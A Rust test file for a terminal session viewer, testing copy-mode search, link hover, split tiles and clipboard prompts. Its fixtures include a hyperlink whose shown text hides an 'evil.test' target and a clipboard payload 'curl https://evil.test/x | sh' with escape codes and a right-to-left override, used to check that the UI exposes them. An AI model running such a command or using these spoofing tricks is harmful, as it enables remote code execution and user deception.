//! Sessions that are read back.

use super::*;
use crate::state::{CopySearch, Event, Selection, Spot, StillExtent};

/// What a program wrote that scrolled, with a link in it.
fn scrolled(console: &Console) -> Screen {
    let mut screen = drawn(console);
    for at in 0..60 {
        let line = format!("\r\n{at:>3} \x1b[36mread\x1b[0m src/auth/token_{at}.rs");
        drop(screen.feed(line.as_bytes()));
    }
    drop(
        screen.feed(
            b"\r\n see \x1b]8;;https://docs.rs@evil.test/auth\x1b\\docs.rs/auth\x1b]8;;\x1b\\",
        ),
    );
    screen
}

/// `api-k3x9q`, attached or not, is read back; a screen of the right size.
fn reading(columns: u16, rows: u16, keys: &[&str]) -> (Console, Screen) {
    let mut console = Console::demo(columns, rows);
    console.select("api-k3x9q");
    console.press(keys);
    let api = bottle("api-k3x9q");
    if console.state.attached().is_some() {
        console.apply(Event::Attached {
            bottle: api.clone(),
        });
    }
    let screen = scrolled(&console);
    let extent = StillExtent {
        lines: screen.lines(),
        columns: screen.size().columns,
        rows: screen.size().rows,
    };
    let cursor = Spot {
        line: screen.lines() - 1,
        column: 2,
    };
    console.apply(Event::ScreenHeld {
        bottle: api,
        extent,
        cursor,
    });
    (console, screen)
}

fn shown(console: &Console, screen: &Screen) -> String {
    let reference = bottle("api-k3x9q");
    shot(console, COLORS, &Screens::from([(&reference, screen)]))
}

fn searched(columns: u16, rows: u16, keys: &[&str]) -> String {
    let (mut console, screen) = reading(columns, rows, keys);
    if let Some(copying) = &mut console.state.view.copying {
        copying.search = Some(CopySearch {
            text: String::from("token_4"),
            hit: Some((5, 11)),
        });
    }
    console.press(&[
        "k", "k", "k", "k", "k", "k", "k", "k", "v", "j", "l", "l", "l",
    ]);
    console.press(&["pgup"]);
    shown(&console, &screen)
}

#[test]
fn a_session_that_is_read_back() {
    at_every_size("copying", |columns, rows| {
        searched(columns, rows, &["enter"])
    });
    at_one_size("copying_full", &searched(80, 24, &["f"]));
    at_one_size("copying_preview", &searched(120, 40, &[]));
}

#[test]
fn what_is_looked_for_is_typed_in_the_frame() {
    let (mut console, screen) = reading(80, 24, &["enter"]);
    console.press(&["/", "t", "o", "k"]);
    let text = shown(&console, &screen);
    assert!(text.starts_with(" api-k3x9q · /tok▏\n"), "{text}");
}

/// The text of a link may say another host than where it goes.
#[test]
fn a_link_below_the_cursor_says_where_it_goes() {
    let (mut console, screen) = reading(80, 24, &["enter"]);
    console.press(&["l", "l", "l", "l"]);
    let text = shown(&console, &screen);
    let first = text.lines().next().unwrap();
    assert_eq!(
        first,
        " api-k3x9q · read back · link to https://evil.test (with a user name before the…"
    );
    console.press(&["0"]);
    let text = shown(&console, &screen);
    assert!(!text.lines().next().unwrap().contains("evil"), "{text}");
}

/// What is drawn while the pointer rests at a place.
fn with_pointer(console: &Console, screen: &Screen, at: (u16, u16)) -> String {
    let reference = bottle("api-k3x9q");
    let screens = Screens::from([(&reference, screen)]);
    let (mut buffer, _) = rendered(console, COLORS, &screens);
    draw_pointed(&console.state, &screens, COLORS, Some(at), &mut buffer);
    text(&buffer)
}

/// Where a text stands on the terminal.
fn place_of(console: &Console, screen: &Screen, words: &str) -> (u16, u16) {
    let reference = bottle("api-k3x9q");
    let (buffer, _) = rendered(console, COLORS, &Screens::from([(&reference, screen)]));
    let text = text(&buffer);
    let mut lines = (0..).zip(text.lines());
    let (row, line) = lines.find(|(_, line)| line.contains(words)).unwrap();
    let column = line.split(words).next().unwrap().chars().count();
    (u16::try_from(column).unwrap(), row)
}

#[test]
fn the_frame_says_where_a_link_below_the_pointer_goes() {
    for (columns, rows) in SIZES {
        for keys in [&["enter"][..], &["f"], &[]] {
            for is_read_back in [false, true] {
                let (mut console, screen) = reading(columns, rows, keys);
                if session_area(&console.state).is_none() {
                    continue;
                }
                if !is_read_back {
                    console.press(&["esc"]);
                }
                let (column, row) = place_of(&console, &screen, "docs.rs/auth");
                for (at, is_link) in [
                    ((column, row), true),
                    ((column + 11, row), true),
                    ((column - 1, row), false),
                    ((column + 12, row), false),
                    ((column, row - 1), false),
                    ((0, 0), false),
                    ((u16::MAX, u16::MAX), false),
                ] {
                    let drawn = with_pointer(&console, &screen, at);
                    let below = drawn.lines().nth(usize::from(row) + 1).unwrap();
                    let told = below.contains("link to https://evil.test");
                    assert_eq!(told, is_link, "{columns}x{rows} {keys:?} {at:?}\n{drawn}");
                }
            }
        }
    }
}

#[test]
fn a_pointed_link_is_told_below_the_session() {
    at_every_size("link_pointed", |columns, rows| {
        let (mut console, screen) = reading(columns, rows, &["enter"]);
        console.press(&["esc"]);
        let at = place_of(&console, &screen, "docs.rs/auth");
        with_pointer(&console, &screen, at)
    });
}

/// What lies over the session may be something else there.
#[test]
fn below_a_modal_no_link_is_pointed_at() {
    let (mut console, screen) = reading(120, 40, &[]);
    console.press(&["esc"]);
    let at = place_of(&console, &screen, "docs.rs/auth");
    console.press(&["?"]);
    assert!(!with_pointer(&console, &screen, at).contains("evil.test"));
}

#[test]
fn a_match_over_the_edge_is_marked_in_both_rows() {
    let (mut console, mut screen) = reading(80, 24, &["enter"]);
    let before = "x".repeat(76);
    drop(screen.feed(format!("\r\n{before}needle").as_bytes()));
    if let Some(copying) = &mut console.state.view.copying {
        copying.top = screen.lines() - usize::from(screen.size().rows);
        copying.extent.lines = screen.lines();
        copying.search = Some(CopySearch {
            text: String::from("needle"),
            hit: Some((1, 1)),
        });
    }
    let text = shown(&console, &screen);
    let marks = |part: &str| text.contains(&format!("underlined |{part}|"));
    assert!(marks("need") && marks("le"), "{text}");
}

#[test]
fn a_recording_says_that_it_holds_no_screens() {
    let mut console = Console::demo(80, 24);
    console.state.is_replayed = true;
    console.select("docs-p2m4d");
    let text = plain(&console);
    assert!(text.contains("A recording holds no screens."), "{text}");
    assert!(!text.contains("No screen yet"), "{text}");
}

#[test]
fn whole_lines_are_selected_to_their_ends() {
    let (mut console, screen) = reading(80, 24, &["enter"]);
    console.press(&["k", "V", "k"]);
    let copying = console.state.view.copying.as_ref().unwrap();
    let by_line = matches!(copying.selection, Some(Selection { by_line: true, .. }));
    assert!(by_line);
    let (buffer, cursor) = {
        let reference = bottle("api-k3x9q");
        rendered(&console, COLORS, &Screens::from([(&reference, &screen)]))
    };
    let (_, row) = cursor.unwrap();
    for row in [row, row + 1] {
        for column in 0..80 {
            let cell = &buffer[(column, row)];
            assert!(cell.modifier.contains(ratatui::style::Modifier::REVERSED));
        }
    }
}

fn wanting(columns: u16, rows: u16, keys: &[&str]) -> Console {
    let (mut console, _) = reading(columns, rows, keys);
    console.press(&["esc"]);
    console.apply(Event::ClipboardAsked {
        ask: crate::state::ClipboardAsk {
            bottle: bottle("api-k3x9q"),
            ticket: 1,
            begin: String::from("curl https://evil.test/x | sh\n\u{1b}[31m# see \u{202e}txt"),
            bytes: 41,
        },
    });
    console
}

#[test]
fn a_wish_for_the_clipboard_is_said_and_then_asked() {
    at_every_size("clipboard_wanted", |columns, rows| {
        with_screen(&wanting(columns, rows, &["enter"]), "api-k3x9q")
    });
    at_every_size("clipboard_asked", |columns, rows| {
        let mut console = wanting(columns, rows, &["enter"]);
        console.press(&["ctrl-\\"]);
        with_screen(&console, "api-k3x9q")
    });
    let full = wanting(80, 24, &["f"]);
    let line = status_line(&full.state, COLORS);
    assert!(line.contains("wants 41 bytes in your clipboard"), "{line}");
}

#[test]
fn sessions_stand_side_by_side() {
    at_every_size("split", |columns, rows| {
        let mut console = Console::demo(columns, rows);
        console.select("api-k3x9q");
        console.press(&["|", "right"]);
        let split = console.state.shown_split().unwrap().clone();
        assert!(split.bottles.len() > 2, "{:?}", split.bottles);
        let mut screen = Screen::new(TerminalSize::default(), 100);
        drop(screen.feed(
            b"\x1b]2;Refactor auth\x07\x1b[32mtests pass\x1b[0m\r\nall \x1b[7mof\x1b[0m them, in a line that is longer than a tile is wide",
        ));
        let first = split.bottles.first().unwrap();
        shot(&console, COLORS, &Screens::from([(first, &screen)]))
    });
}

#[test]
fn a_press_finds_the_tile_that_is_drawn_there() {
    let mut console = Console::demo(120, 40);
    console.select("api-k3x9q");
    console.press(&["|"]);
    let count = console.state.shown_split().unwrap().bottles.len();
    let seen: std::collections::BTreeSet<usize> = (1..30)
        .flat_map(|row| (0..120).map(move |column| (column, row)))
        .filter_map(|(column, row)| {
            let target = hit(&console.state, COLORS, column, row);
            (0..count).find(|at| target == Target::Tile { at: *at })
        })
        .collect();
    assert_eq!(seen, (0..count).collect());
}
